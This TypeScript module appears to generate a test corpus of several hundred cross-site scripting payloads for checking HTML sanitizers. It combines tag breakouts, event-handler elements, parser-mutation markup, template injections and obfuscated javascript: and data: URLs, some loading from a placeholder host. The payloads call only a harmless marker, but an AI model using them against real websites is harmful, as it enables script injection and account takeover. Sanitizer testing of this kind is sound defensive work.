/** Texts that try to become script wherever they land: built from parts, so that contexts, tags and disguises all meet. */

/** What every payload would do if it ran. */
export const MARK = '__pwned';
const CALL = `${MARK}(1)`;
/** The same call spelled without a letter of it: entities, escapes, and built from character codes. */
const CALLS = [CALL, `window['${MARK}'](1)`, `${MARK}\`1\``, `top.${MARK}(1)`];
const FAR = '//xss.invalid/x';

/** What closes the place a text may stand in. */
const BREAKS = [
  '',
  '">',
  "'>",
  '"/>',
  '-->',
  ']]>',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '\\"}}',
];

/** Elements that run something by themselves. */
const ELEMENTS = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `<script src="${FAR}" onerror="${call}"></script>`,
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<IMG SRC=x OnErRoR="${call}">`,
  (call: string) => `<svg onload=${call}>`,
  (call: string) => `<svg><script>${call}</script></svg>`,
  (call: string) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call: string) => `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  (call: string) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  (call: string) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  (call: string) => `<body onload=${call}>`,
  (call: string) => `<video><source onerror=${call}></video>`,
  (call: string) => `<audio src=x onerror=${call}>`,
  (call: string) => `<details open ontoggle=${call}>`,
  (call: string) => `<input autofocus onfocus=${call}>`,
  (call: string) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call: string) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call: string) => `<object data="javascript:${call}"></object>`,
  (call: string) => `<embed src="javascript:${call}">`,
  (call: string) => `<form action="javascript:${call}"><button>x</button></form>`,
  (call: string) => `<button formaction="javascript:${call}">x</button>`,
  (call: string) => `<a href="javascript:${call}">x</a>`,
  (call: string) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call: string) => `<base href="javascript:${call}//">`,
  (call: string) => `<link rel=stylesheet href="${FAR}" onload=${call}>`,
  (call: string) => `<style>@import "${FAR}";*{background:url("javascript:${call}")}</style>`,
  (call: string) => `<marquee onstart=${call}>x</marquee>`,
  (call: string) => `<p style="background:url(javascript:${call})">x</p>`,
  (call: string) => `<x onmouseover=${call} style="position:fixed;inset:0">x</x>`,
  (call: string) => `<select onfocus=${call} autofocus><option>x</select>`,
];

/** Markup that a parser reads differently the second time. */
const MUTANTS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<svg><foreignObject><iframe srcdoc="<img src=x onerror=parent.${CALL}>">`,
  `<table><td background="javascript:${CALL}">`,
  `<a href="https://x"onclick=${CALL}>x</a>`,
  `<img src="x\` \`onerror=${CALL}//">`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<img src=x onerror=${CALL}>`,
  `<img src=x:x\u0000 onerror=${CALL}>`,
  `<img\u000Csrc=x\u000Conerror=${CALL}>`,
  `<img/src=x/onerror=${CALL}>`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;img src=x onerror=${CALL}&#62;`,
  `\u003cimg src=x onerror=${CALL}\u003e`,
  `%3Cimg%20src%3Dx%20onerror%3D${CALL}%3E`,
  `\uFF1Cimg src=x onerror=${CALL}\uFF1E`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `</script><!--<script>${CALL}`,
  `<!--<script>-->${CALL}</script>`,
  `\u2028${CALL}\u2029`,
  `");${CALL};//`,
  `';${CALL};//`,
  `\\u0022);${CALL};//`,
  `#fff;background:url(javascript:${CALL})`,
  `expression(${CALL})`,
  `red;}</style><script>${CALL}</script>`,
  `16 / 9;background:url(${FAR})`,
  `" style="animation:x" onanimationstart="${CALL}`,
  `x" onmouseover="${CALL}" y="`,
  `x' onmouseover='${CALL}' y='`,
  `x onmouseover=${CALL} y=`,
];

/** Addresses, plain and disguised as browsers still understand them. */
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\tjavascript:',
  '\u0001javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  'javascript\t:',
  'javascript&colon;',
  '&#106;avascript:',
  '&#x6A;avascript:',
  'javascript:/*--></title>*/',
  'javascript://%0a',
  'javascript:\u2028',
  'vbscript:',
  'data:text/html,<script>',
  'data:text/html;base64,',
  'data:image/svg+xml,<svg onload=',
  'blob:',
  'feed:javascript:',
  'view-source:javascript:',
  'jar:javascript:',
];

const ADDRESSES = [
  ...SCHEMES.flatMap((scheme) => [`${scheme}${CALL}`, `${scheme}${MARK}\`1\``]),
  `https://xss.invalid/"onerror="${CALL}`,
  `https://xss.invalid/'onerror='${CALL}`,
  `https://xss.invalid/><script>${CALL}</script>`,
  `https://xss.invalid/?x=javascript:${CALL}`,
  `https://javascript:${CALL}@xss.invalid/`,
  `/\\xss.invalid/${CALL}`,
  `//xss.invalid/${CALL}`,
  `/"><img src=x onerror=${CALL}>`,
  `/x" onerror="${CALL}`,
  `/%0ajavascript:${CALL}`,
  `/x.svg);background:url(javascript:${CALL})`,
  `#"><script>${CALL}</script>`,
  `#javascript:${CALL}`,
  `mailto:x"onclick="${CALL}`,
  `tel:1"onclick="${CALL}`,
];

/** At least 300, no two alike. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...ELEMENTS.flatMap((element, index) => [
      ...CALLS.map(element),
      ...BREAKS.filter((_, place) => place % 3 === index % 3).map((end) => end + element(CALL)),
    ]),
    ...MUTANTS,
    ...ADDRESSES,
  ]),
];
